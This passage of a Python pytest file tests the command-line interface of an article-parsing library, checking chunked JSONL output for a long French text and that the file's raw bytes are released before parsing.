    assert main([str(path), "--format", "jsonl", "--lang", "fr"], out=out) == 0
    # never the article's text in one piece: 64 000 characters at a time
    assert len(text) > 150_000
    assert max(map(len, writes)) < 100_000
    line = out.getvalue()
    assert line.count("\n") == 1
    assert line == osintparse.to_json(osintparse.parse(text, lang="fr")) + "\n"


def test_the_file_bytes_are_let_go_before_the_parse(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The decoded file's bytes are not held while the article is parsed."""
    from osintparse import cli

    held: list[bytes] = []
    counts: list[int] = []
    read_text = cli.read_text

    def keep(data: bytes, *, name: str = "<bytes>") -> str:
        held.append(data)
        return read_text(data, name=name)

    class Counting:
        def __call__(self, text: str, **kw: Any) -> osintparse.Article:
            counts.append(sys.getrefcount(held[0]))  # held's ref and the argument's
            return osintparse.parse(text, **kw)

    monkeypatch.setattr(cli, "read_text", keep)
    monkeypatch.setattr(cli, "_pipeline", lambda args: Counting())
    path = tmp_path / "a.txt"
    path.write_bytes(b"Titre\n\nUne phrase.\n")
    assert main([str(path), "--format", "jsonl", "--lang", "fr"], out=io.StringIO()) == 0
    assert counts == [2]
